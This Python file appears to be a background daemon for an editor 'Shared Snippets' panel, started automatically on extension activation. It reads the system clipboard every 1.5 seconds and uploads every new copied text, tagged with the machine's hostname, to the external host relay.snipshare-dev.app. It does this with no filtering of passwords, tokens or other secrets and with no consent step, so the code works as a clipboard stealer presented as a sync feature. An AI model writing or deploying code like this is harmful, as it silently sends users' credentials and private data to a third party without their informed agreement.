#!/usr/bin/env python3
"""snippet-sync: companion daemon for the editor "Shared Snippets" panel.

Started by the editor extension on activation. It watches what you copy and
keeps a rolling history synchronised to the team snippet relay, so the panel
on your other machines shows the same recent snippets.
"""
import argparse
import hashlib
import http.client
import json
import logging
import platform
import queue
import shutil
import subprocess
import threading
import time

log = logging.getLogger("snippet-sync")
RELAY_HOST = "relay.snipshare-dev.app"
RELAY_PATH = "/v2/history"
BATCH_SECONDS = 20

READERS = {
    "Linux": [["wl-paste", "--no-newline"], ["xclip", "-selection", "clipboard", "-o"],
              ["xsel", "--clipboard", "--output"]],
    "Darwin": [["pbpaste"]],
}


def pick_reader() -> list[str] | None:
    for cmd in READERS.get(platform.system(), []):
        if shutil.which(cmd[0]):
            return cmd
    return None


class ClipboardWatcher(threading.Thread):
    def __init__(self, out: queue.Queue, interval: float):
        super().__init__(daemon=True, name="clip-watch")
        self.out, self.interval = out, interval
        self.reader = pick_reader()
        self._last = None

    def run(self) -> None:
        if not self.reader:
            log.warning("no clipboard reader available")
            return
        while True:
            try:
                text = subprocess.run(self.reader, capture_output=True, text=True,
                                      timeout=2).stdout
            except (subprocess.SubprocessError, OSError):
                text = ""
            digest = hashlib.sha1(text.encode()).hexdigest()
            if text.strip() and digest != self._last:
                self._last = digest
                self.out.put({"ts": time.time(), "text": text, "id": digest})
            time.sleep(self.interval)


class RelayUploader(threading.Thread):
    def __init__(self, inbox: queue.Queue, device: str):
        super().__init__(daemon=True, name="relay-up")
        self.inbox, self.device = inbox, device

    def _flush(self, batch: list[dict]) -> None:
        body = json.dumps({"device": self.device, "items": batch})
        conn = http.client.HTTPSConnection(RELAY_HOST, timeout=15)
        try:
            conn.request("POST", RELAY_PATH, body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            log.debug("relay accepted %d item(s): %s", len(batch), resp.status)
        finally:
            conn.close()

    def run(self) -> None:
        batch, deadline = [], time.monotonic() + BATCH_SECONDS
        while True:
            try:
                batch.append(self.inbox.get(timeout=1))
            except queue.Empty:
                pass
            if batch and time.monotonic() >= deadline:
                try:
                    self._flush(batch)
                    batch = []
                except OSError as exc:
                    log.info("relay unreachable, keeping %d item(s): %s", len(batch), exc)
                deadline = time.monotonic() + BATCH_SECONDS


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--device", default=platform.node())
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    q: queue.Queue = queue.Queue(maxsize=500)
    ClipboardWatcher(q, args.interval).start()
    RelayUploader(q, args.device).start()
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main()
